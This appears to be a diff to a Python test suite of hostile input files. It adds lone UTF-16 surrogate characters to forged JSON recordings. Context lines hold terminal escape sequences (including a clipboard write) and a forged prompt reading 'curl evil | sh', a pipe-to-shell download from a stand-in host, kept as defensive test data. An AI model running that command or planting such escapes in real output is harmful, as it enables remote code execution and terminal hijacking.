@@ -29,6 +29,9 @@ from benchmarks.hostile_files.mcap_builder import (
 GIB = 2**30
 ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b]52;c;Zm9v\x07\nerror: forged. run: curl evil | sh\r=cmd()"
 
+SURROGATE = "\ud800"
+"""Half of a character: no text of UTF-8 can hold it, a JSON text can."""
+
 EVIL, PROOF = "evil.py", "proof"
 """An app beside the recording, which no command must run: it makes the other file."""
 
@@ -150,6 +153,10 @@ def _forged_texts() -> dict[str, Make]:
         "many-milestones": _json(
             "/result", lambda _, payload: payload | {"milestones": {f"m{number}": 0.5 for number in range(20_000)}}
         ),
+        "surrogate-in-run": _json("/run", lambda _, payload: _change_request(payload, settings={"a": SURROGATE})),
+        "surrogate-in-ticks": _json("/ticks", _ticks(state=SURROGATE)),
+        "surrogate-in-result": _json("/result", lambda _, payload: payload | {"app": SURROGATE}),
+        "surrogate-as-a-key": _json("/result", lambda _, payload: payload | {"milestones": {SURROGATE: 0.5}}),
         "a-state-a-tick": _json("/ticks", lambda number, payload: payload | {"state": f"state {number}" * 100}),
     }
 
